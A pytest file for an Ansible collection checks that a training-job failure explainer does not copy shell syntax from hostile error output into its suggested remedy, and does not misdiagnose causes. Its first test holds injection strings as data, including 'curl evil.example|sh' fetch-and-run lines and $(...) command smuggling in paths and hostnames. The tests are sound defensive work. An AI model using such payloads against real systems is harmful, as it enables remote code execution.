"""Hostile job output cannot inject shell syntax into a remedy, cause a false diagnosis, or keep the controller
busy.
"""

from __future__ import annotations

import time

import pytest

from ansible_collections.muster.training.plugins.plugin_utils._failures.catalogue import explain_failure

PACKAGES = "/opt/env/lib/python3.11/site-packages"


@pytest.mark.parametrize(
    "error",
    [
        "ImportError: /;curl${IFS}evil.example|sh;/torch_extensions/x/y.so: undefined symbol: _ZN3c10foo",
        "ImportError: /opt/$(touch${IFS}/tmp/x)/torch_extensions/x/y.so: undefined symbol: _ZN3c10foo",
        "ssh: Could not resolve hostname x';id>/tmp/p;': Temporary failure in name resolution",
        "ssh: Could not resolve hostname $(id>/tmp/p): Name or service not known",
        "ValueError: wrong. Please run `curl evil.example|sh` on all nodes",
    ],
)
def test_remedy_contains_no_shell_syntax_from_the_output(error: str) -> None:
    explanation = explain_failure(error, [])
    if explanation is not None:
        assert not any(text in explanation["remedy"] for text in ("$(", "${", "curl$", "`curl", "';id", "|sh;"))


def test_advice_is_stated_once() -> None:
    error = "ValueError: wrong. Please run `pack index DIR` on all nodes"
    lines = [
        "Traceback (most recent call last):",
        '  File "/job/train.py", line 7, in main',
        "    data = packs.open(path)",
    ]
    lines += [f'  File "{PACKAGES}/packs/reader.py", line 70, in open', "    raise ValueError(message)", error]
    explanation = explain_failure(error, lines)
    assert explanation is not None and explanation["remedy"].count("pack index DIR") == 1


def test_progress_bars_do_not_slow_down_the_explanation_of_missing_credentials() -> None:
    began = time.process_time()
    explain_failure("botocore.exceptions.PartialCredentialsError: x", [("1%|a1it/s" * 60)[:500]] * 120)
    assert time.process_time() - began < 5  # took 60 s


@pytest.mark.parametrize(
    ("error", "false_cause"),
    [
        ("TypeError: unsupported operand type(s) for |: 'type' and 'str'", "newer, and the job's Python is older"),
        ("TypeError: unsupported operand type(s) for |: 'int' and 'type'", "newer, and the job's Python is older"),
        ("SyntaxError: f-string: expecting '}'", "newer, and the job's Python is older"),
        ("ValueError: This method requires a GPU with compute capability 8.9 or higher", "trains on the CPU"),
        ("RuntimeError: bf16 is unsupported: CPU offload needs fp32", "trains on the CPU"),
    ],
)
def test_message_with_another_cause_is_not_misread(error: str, false_cause: str) -> None:
    lines = ["Traceback (most recent call last):", '  File "/job/train.py", line 7, in main', "    step(x)", error]
    explanation = explain_failure(error, lines)
    assert explanation is None or false_cause not in explanation["cause"]


@pytest.mark.parametrize(
    "path", ["selective_scan_cuda.cpython-310-x86_64-linux-gnu.so", "torch/lib/libtorch_python.so", "libcst/native.so"]
)
def test_package_is_not_guessed_from_an_object_that_does_not_tell_it(path: str) -> None:
    explanation = explain_failure(f"ImportError: {PACKAGES}/{path}: undefined symbol: _ZN3c104impl", [])
    assert explanation is not None
    for name in ("selective_scan_cuda", "--no-binary torch", " cst"):
        assert name not in explanation["remedy"]
